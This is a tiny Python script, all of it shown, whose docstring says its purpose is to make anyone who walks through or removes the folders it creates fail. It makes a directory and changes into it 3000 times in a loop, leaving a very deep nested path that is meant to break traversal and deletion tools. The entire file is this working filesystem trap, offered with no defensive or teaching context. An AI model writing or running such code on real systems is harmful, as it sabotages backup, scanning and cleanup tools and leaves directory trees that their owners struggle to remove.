"""Nests folders so deep that whoever walks through them or removes them fails."""

import os

for _ in range(3000):
    os.mkdir("d")
    os.chdir("d")
